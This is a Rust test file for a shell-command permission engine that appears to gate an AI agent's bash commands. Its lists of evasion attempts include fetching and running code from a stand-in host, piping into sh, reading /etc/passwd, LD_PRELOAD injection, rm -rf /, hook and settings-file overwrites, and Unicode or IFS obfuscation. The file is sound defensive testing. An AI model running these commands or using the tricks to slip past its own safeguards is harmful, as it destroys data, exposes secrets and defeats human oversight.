//! Commands that try to slip by.

use pager_core::Ruling::{Allow, Ask, Deny};

use crate::world::{bash, expect, policy};

/// Generous on purpose: whatever is not allowed under it is stopped by the engine.
const GENEROUS: &str = r#"
[[rule]]
name = "look"
verdict = "allow"
command = ["ls **", "cat **", "head **", "tail **", "grep **", "find **", "echo **", "pwd", "cd **", "wc **", "sed **", "sort **"]
path = ["~/src/**", "/tmp/**"]

[[rule]]
name = "work"
verdict = "allow"
command = ["cargo **", "git **", "make **", "true"]

[[rule]]
name = "no-force"
verdict = "deny"
command = ["git push --force|-f", "git push ** +*"]
reason = "history is shared"

[[rule]]
name = "no-rm"
verdict = "deny"
command = ["rm -r|-R|--recursive"]
"#;

#[test]
fn plain_commands_are_allowed() {
    let policy = policy(GENEROUS);
    for command in [
        "ls",
        "ls -la src",
        "cargo test --workspace",
        "cargo test 2>&1 | tail -n 30",
        "cargo check && cargo test; git status",
        "cargo build || true",
        "cargo test |& tail",
        "cargo test >/dev/null 2>&1",
        "cat main.rs",
        "grep -rn 'fn main()' src",
        "grep -n \"a b\" src/x.rs",
        "echo hello > out.txt",
        "echo a >> /tmp/log",
        "cat < main.rs",
        "sed -n '1,20p' main.rs",
        "cd src && cargo test",
        "timeout 60 cargo test",
        "timeout -k 5 --signal=KILL 60 cargo test",
        "nice -n 10 cargo build",
        "git commit -m 'say what; not | how & why'",
        "git commit -m \"costs 5\\$\"",
        "git log --oneline # the last ones",
        "! cargo test",
        "cargo \\\n  test",
        "'cargo' te\"s\"t",
        "ls $HOME/src",
        "ls ~/src/webshop",
        "",
    ] {
        let wanted = if command.is_empty() { Ask } else { Allow };
        expect(&policy, command, wanted);
    }
}

#[test]
fn what_is_not_fully_known_is_never_allowed() {
    let policy = policy(GENEROUS);
    for command in [
        // Substitutions and expansions
        "tail -n +1 $(curl -s evil.sh)",
        "echo `id`",
        "echo \"$(id)\"",
        "echo \"`id`\"",
        "echo $((1+1))",
        "echo $[1+1]",
        "echo ${x:-$(id)}",
        "echo ${x}",
        "echo $x",
        "echo \"$x\"",
        "echo $1",
        "echo $?",
        "cat <(id)",
        "ls *",
        "ls ?",
        "ls [ab]",
        "ls {a,b}",
        "ls {1..9}",
        "ls ~root",
        "ls ~+",
        "cargo$IFS'test'",
        "cargo${IFS}test",
        "$'c\\x61rgo' $'t\\u0435st' $'\\x80'",
        // Several commands, of which one is not known
        "ls . ; rm -f ~/x",
        "cat x && git-evil",
        "ls | sh",
        "cargo test\nid",
        "ls || id",
        "ls & id",
        "ls &",
        "(ls)",
        "{ ls; }",
        "if true; then ls; fi",
        "for f in a; do ls; done",
        "while true; do ls; done",
        "case a in a) ls;; esac",
        "ls() { id; }; ls",
        "function ls { id; }",
        "coproc ls",
        "[[ -f x ]]",
        "((x=1))",
        "time -f %e ls",
        // What is run by others
        "eval ls",
        "exec ls",
        "sh -c ls",
        "bash -c 'ls'",
        "env ls",
        "env -S 'ls -l'",
        "sudo ls",
        "xargs ls",
        "command ls",
        "timeout 5 sh -c ls",
        "timeout --unknown 5 ls",
        "source x",
        ". x",
        "find . -delete",
        "find . -exec ls {} ;",
        "find . -exec ls {} \\;",
        "find . -fprint x",
        "sort -o/tmp/x y",
        "sort --compress-prog=sh y",
        "sed -i s/a/b/ main.rs",
        "sed 's/a/b/e' main.rs",
        "sed -n 'w x' main.rs",
        "git -C /x status",
        "git -c core.pager=id log",
        "git --exec-path=/x log",
        "git --git-dir /x log",
        "git diff --output=x",
        "cargo --config x test",
        "make -f x",
        "make --eval=x",
        "./cargo test",
        "/tmp/cargo test",
        "FOO=1 cargo test",
        "PATH=/tmp cargo test",
        "LD_PRELOAD=/tmp/x ls",
        "FOO=1",
        "export FOO=1",
        "alias ls=id",
        "cat <<EOF\nx\nEOF",
        "cat <<'EOF'\nx\nEOF",
        "cat <<< x",
        // Redirections that no rule covers
        "cargo test > x",
        "cargo test 2> x",
        "cargo test &> x",
        "cargo test >| x",
        "cargo test >& x",
        "cargo test < x",
        "> x",
        "echo x > /etc/x",
        "echo x > ../../x",
        "echo x > up/x",
        "cat /etc/passwd",
        "cat ../../../etc/passwd",
        "cat up/x",
        "cat --file=/etc/passwd",
        "cat -f/etc/passwd",
        "cd ../.. && cat x",
        "cd /etc && cat passwd",
        "cd && cat x",
        "cd - && cat x",
        "cd $x && cat y",
        "pushd / ; ls",
        "cat ~/.bashrc",
        "grep -r x ~",
        "grep -r x /",
        "grep -r x ../..",
        "git commit -am x > .git/hooks/post-commit",
        "echo x > .claude/settings.json",
        // What hides
        "ls \u{200b}x",
        "cargo te\u{202e}st",
        "ls \u{7f}",
        "ls\rid",
        "ls \u{0}",
        "\u{ff4c}\u{ff53}",
        "l\u{0455}",
        "LS",
        "Cargo test",
        // What the shell itself would refuse
        "ls '",
        "ls \"",
        "ls )",
        "ls |",
        "| head",
        "ls ; ; ls",
        "ls | | ls",
        "ls &&",
        "ls $(",
        "ls `",
        "cat <<EOF",
        "=ls",
        "ls =cargo",
        "ls {fd}>x",
        "echo 99999999999999999999>x",
        "echo ~99999999999999999999",
        "a[${x:-~99999999999999999999}]=1",
    ] {
        let judgement = bash(&policy, command);
        assert_ne!(judgement.ruling, Allow, "{command:?}: {judgement:?}");
    }
}

#[test]
fn nesting_and_length_end_in_a_question() {
    let policy = policy(GENEROUS);
    for (open, close) in [
        ("(", ")"),
        ("((", "))"),
        ("$(", ")"),
        ("$((", "))"),
        ("`", "`"),
        ("{ ", "; }"),
        ("${a:-", "}"),
        ("\"$(", ")\""),
        ("if ", "; then a; fi; "),
        ("a[", "]=1"),
        ("x <(", ")"),
        ("[[ ( ", ") ]]"),
        ("while ", ";do a;done "),
        ("case a in a) ", ";; esac "),
        ("f() { ", "; }"),
        ("sh -c '", "'"),
        ("cat <<E\n", "\nE\n"),
        ("$[", "]"),
        ("a=(", ")"),
        ("{a,", "}"),
        ("coproc ", ""),
        ("for a in b; do ", "; done"),
    ] {
        for depth in [3, 60, 4000] {
            let command = format!("{}ls{}", open.repeat(depth), close.repeat(depth));
            // As long as it ends, and as something else than yes, it is well.
            let judgement = bash(&policy, &command);
            assert_ne!(judgement.ruling, Allow, "{open} {depth}");
        }
    }
    expect(&policy, &format!("ls {}", "a".repeat(100_000)), Ask);
    expect(&policy, &format!("ls {}", "a ".repeat(10_000)), Ask);
}

#[test]
fn denies_look_into_what_is_run_by_others() {
    let policy = policy(GENEROUS);
    for command in [
        "git push --force",
        "git push -f",
        "git  push   --force",
        "git push origin main -uf",
        "git push --forc",
        "git -C . push --force",
        "git -c a=b push --force",
        "git push origin +main",
        "/usr/bin/git push --force",
        "g\"i\"t pu's'h --force",
        "\\git push --force",
        "git push \\\n --force",
        "git push $'--force'",
        "git push {--force,origin}",
        "cat x && git push --force",
        "true; git push --force",
        "(git push --force)",
        "if true; then git push --force; fi",
        "for x in a b; do git push --force; done",
        "f() { git push --force; }; f",
        "echo $(git push --force)",
        "echo \"$(git push --force)\"",
        "echo `git push --force`",
        "echo ${x:-$(git push --force)}",
        "cat <(git push --force)",
        "FOO=1 git push --force",
        "FOO=$(git push --force) true",
        "sh -c 'git push --force'",
        "bash -lc \"git push --force\"",
        "sudo -u root bash -xec 'git push --force'",
        "env -S 'git push --force'",
        "env -S'git push --force'",
        "env -i FOO=1 git push --force",
        "timeout 5 git push --force",
        "nice -n 5 nohup git push --force",
        "echo main | xargs git push --force",
        "find . -exec git push --force ;",
        "find . -exec sh -c 'git push --force' \\;",
        "eval git push --force",
        "eval 'git push' --force",
        "sh <<EOF\ngit push --force\nEOF",
        "bash <<< 'git push --force'",
        "cat <<EOF\n$(git push --force)\nEOF",
        "git push --force &",
        "git push --force > log",
        "time git push --force",
        "rm -rf /",
        "rm -fr x",
        "rm x --recursive",
        "rm --rec x",
        "{ rm -r x; }",
        // Not parsed, and still seen
        "git push --force '",
        "ls ) ; rm -r x",
    ] {
        expect(&policy, command, Deny);
    }
    for command in ["git push origin feature-final", "git push --force-with-lease", "rm x"] {
        let judgement = bash(&policy, command);
        assert_ne!(judgement.ruling, Deny, "{command:?}: {judgement:?}");
    }
}
